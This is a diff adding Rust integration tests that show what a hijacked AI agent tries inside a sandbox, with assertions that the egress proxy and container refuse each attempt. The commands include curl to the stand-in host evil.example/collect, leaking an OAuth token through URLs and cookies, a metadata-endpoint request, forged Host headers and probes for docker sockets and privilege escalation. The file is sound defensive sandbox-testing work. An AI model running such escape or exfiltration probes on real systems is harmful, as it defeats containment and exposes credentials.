@@ -1,0 +1,202 @@
+//! What a hijacked agent tries from inside a real sandbox. Names begin with the row of the attack list they belong to.
+//! Rows that need crafted bytes on the wire are tested with raw sockets in `crates/proxy/tests`.
+
+use clauderon_tests::{World, on_each_backend};
+
+on_each_backend!(
+    b1_there_is_no_interface_and_no_other_socket_family,
+    b1_without_proxy_variables_nothing_is_reachable,
+    b4_an_unknown_host_gets_a_json_refusal_that_is_in_the_audit,
+    b6_names_cannot_be_looked_up_inside,
+    b8_another_port_and_the_proxy_itself_are_refused,
+    a4_another_host_inside_a_tunnel_is_refused,
+    a5_a_placeholder_outside_its_slot_is_refused,
+    a7_plain_http_carries_no_credential,
+    e1_an_attackers_own_key_is_replaced,
+    f2_the_host_is_not_mounted,
+    f6_nothing_can_be_gained,
+);
+
+fn b1_there_is_no_interface_and_no_other_socket_family(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; cat /proc/net/route | wc -l; \
+         perl -e 'use Socket; for $f (40, 17, 16, 38, 29, 1, 2, 10) { print \"family $f \", (socket(my $s, $f, $f == 17 ? 3 : ($f == 38 ? 5 : ($f == 29 ? 3 : 1)), 0) || ($f == 16 && socket($s, 16, 3, 0))) ? \"made\" : \"refused\", \"\\n\" }'",
+    );
+    let mut lines = seen.lines();
+    assert_eq!(lines.next(), Some("lo"), "{seen}");
+    for (family, expected) in [
+        (40, "refused"),
+        (17, "refused"),
+        (38, "refused"),
+        (29, "refused"),
+        (1, "made"),
+        (2, "made"),
+        (16, "made"),
+    ] {
+        assert!(
+            seen.contains(&format!("family {family} {expected}")),
+            "{seen}"
+        );
+    }
+}
+
+fn b1_without_proxy_variables_nothing_is_reachable(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; curl -sS -m 5 https://api.anthropic.com/v1/models; echo \"code $?\"; \
+         curl -sS -m 5 http://1.1.1.1/; echo \"code $?\"",
+    );
+    assert!(!seen.contains("code 0"), "{seen}");
+}
+
+fn b4_an_unknown_host_gets_a_json_refusal_that_is_in_the_audit(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(backend, "a", "curl -sS https://evil.example/collect?x=1");
+    let refusal: serde_json::Value = serde_json::from_str(seen.trim())
+        .unwrap_or_else(|error| panic!("not JSON ({error}): {seen}"));
+    assert_eq!(refusal["host"], "evil.example");
+    assert_eq!(refusal["path"], "/collect");
+    for field in ["code", "method", "rule", "hint"] {
+        assert!(refusal[field].is_string(), "{refusal}");
+    }
+    let audit = world.audit();
+    let recorded = audit
+        .iter()
+        .find(|row| row["host"] == "evil.example")
+        .unwrap_or_else(|| panic!("the refusal is not in the audit: {audit:?}"));
+    assert_eq!(recorded["decision"], "refuse", "{recorded}");
+    let recent = world.run(&["policy", "recent", "a"]).expect(0).stdout;
+    assert!(recent.contains("evil.example"), "{recent}");
+    world.run(&["audit", "verify"]).expect(0);
+}
+
+fn b6_names_cannot_be_looked_up_inside(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "getent hosts data.evil.example; echo \"code $?\"; getent hosts github.com; echo \"code $?\"",
+    );
+    assert!(!seen.contains("code 0"), "{seen}");
+}
+
+fn b8_another_port_and_the_proxy_itself_are_refused(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "for target in github.com:22 api.anthropic.com:80 127.0.0.1:3128 localhost:443 169.254.169.254:443; do \
+         curl -sS -m 5 -o /dev/null -w '%{http_connect}\\n' -p -x http://127.0.0.1:3128 --noproxy '' https://$target/; done",
+    );
+    let codes: Vec<&str> = seen.lines().filter(|line| line.len() == 3).collect();
+    assert_eq!(codes, ["403"; 5], "{seen}");
+}
+
+fn a4_another_host_inside_a_tunnel_is_refused(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "curl -sS -o /dev/null -w 'status %{http_code}\\n' -H 'Host: evil.example' https://api.anthropic.com/v1/models",
+    );
+    assert!(seen.contains("status 421"), "{seen}");
+    assert!(
+        world
+            .upstream
+            .requests()
+            .iter()
+            .all(|one| one.host != "evil.example")
+    );
+}
+
+fn a5_a_placeholder_outside_its_slot_is_refused(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "for url in \"https://api.anthropic.com/v1/models/$CLAUDE_CODE_OAUTH_TOKEN\" \"https://api.anthropic.com/v1/models?x=$CLAUDE_CODE_OAUTH_TOKEN\"; do \
+         curl -sS -o /dev/null -w 'status %{http_code}\\n' $url; done; \
+         curl -sS -o /dev/null -w 'status %{http_code}\\n' -H \"Cookie: a=$CLAUDE_CODE_OAUTH_TOKEN\" https://api.anthropic.com/v1/models",
+    );
+    assert_eq!(seen.matches("status 403").count(), 3, "{seen}");
+}
+
+fn a7_plain_http_carries_no_credential(backend: &str) {
+    let world = World::new();
+    world.upstream.clear();
+    let seen = world.inside(
+        backend,
+        "a",
+        "curl -sS -o /dev/null -w 'status %{http_code}\\n' http://api.anthropic.com/v1/models",
+    );
+    assert!(
+        seen.contains("status 403") || seen.contains("status 400"),
+        "{seen}"
+    );
+    let plain = world
+        .upstream
+        .requests()
+        .into_iter()
+        .filter(|one| matches!(one.scheme, clauderon_rehearsal::Scheme::Http))
+        .count();
+    assert_eq!(plain, 0);
+}
+
+fn e1_an_attackers_own_key_is_replaced(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "curl -sS -o /dev/null -w 'models %{http_code}\\n' -H 'x-api-key: sk-ant-ATTACKER' -H 'Authorization: Bearer ATTACKER' https://api.anthropic.com/v1/models; \
+         curl -sS -o /dev/null -w 'files %{http_code}\\n' -H 'x-api-key: sk-ant-ATTACKER' -d x https://api.anthropic.com/v1/files",
+    );
+    assert!(
+        seen.contains("models 200") && seen.contains("files 403"),
+        "{seen}"
+    );
+    for request in world.upstream.requests() {
+        let headers = format!("{:?}", request.headers);
+        assert!(!headers.contains("ATTACKER"), "{headers}");
+        assert_ne!(request.path, "/v1/files");
+    }
+}
+
+fn f2_the_host_is_not_mounted(backend: &str) {
+    let world = World::new();
+    let home = world.home.display().to_string();
+    let seen = world.inside(
+        backend,
+        "a",
+        &format!(
+            "ls -d {home} /var/run/docker.sock /run/docker.sock /clauderon/private /clauderon/run/../private 2>&1; \
+             find / -xdev -type s 2>/dev/null; touch /clauderon/run/x /clauderon/agent/x /clauderon/relay 2>&1 | grep -c 'Read-only'"
+        ),
+    );
+    assert!(!seen.contains(&format!("\n{home}\n")), "{seen}");
+    assert_eq!(seen.matches("No such file").count(), 5, "{seen}");
+    assert!(
+        seen.lines()
+            .all(|line| !line.starts_with('/') || line == "/clauderon/run/egress.sock"),
+        "{seen}"
+    );
+    assert!(seen.trim().ends_with('3'), "{seen}");
+}
+
+fn f6_nothing_can_be_gained(backend: &str) {
+    let world = World::new();
+    let seen = world.inside(
+        backend,
+        "a",
+        "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status; id -u; unshare -U true 2>&1; echo \"unshare $?\"",
+    );
+    assert!(seen.contains("CapEff:\t0000000000000000"), "{seen}");
+    assert!(seen.contains("NoNewPrivs:\t1"), "{seen}");
+    assert!(seen.contains("Seccomp:\t2"), "{seen}");
+    assert!(!seen.lines().any(|line| line == "0"), "not root: {seen}");
+    assert!(!seen.contains("unshare 0"), "{seen}");
+}
